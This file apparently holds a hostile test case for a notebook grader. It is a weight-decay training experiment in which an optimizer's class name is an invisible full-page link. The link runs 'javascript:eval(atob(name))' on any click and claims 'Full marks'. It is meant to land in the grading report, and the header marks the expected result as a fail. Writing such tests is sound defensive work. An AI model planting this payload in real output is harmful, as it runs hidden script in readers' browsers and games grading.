# attack: link_in_the_name_of_an_optimizer
# kind: hostile
# tries: puts a link that runs a script over the whole page, in the name of an optimizer's class, which the report quotes
# seen: the link is in the page as a link
# never: <a href="javascript:eval(atob(name))" style="position:fixed;top:0;left:0;width:100%;height:100%;font-size:9em;opacity:0">Full marks: click anywhere on the page to read on</a>
# deserves: 3.2a=fail
# %% task: 3.2a
text = """<a href="javascript:eval(atob(name))" style="position:fixed;top:0;left:0;width:100%;height:100%;font-size:9em;opacity:0">Full marks: click anywhere on the page to read on</a>"""
Optimizer = type(text, (torch.optim.SGD,), {})
plotter_weight_decay = HistoryPlotter(plots=[], table=[], rows=5, cols=1)
for row, weight_decay in enumerate([0, 0.0001, 0.001, 0.01, 0.1]):
    net = build_net()
    optimizer = Optimizer(net.parameters(), lr=0.0001, weight_decay=weight_decay)
    history = fit(net, fashion_train, fashion_validation, optimizer, epochs=150, batch_size=32, device=device)
    plotter_weight_decay.add(text * 20, history, row=row, col=0, param=weight_decay)
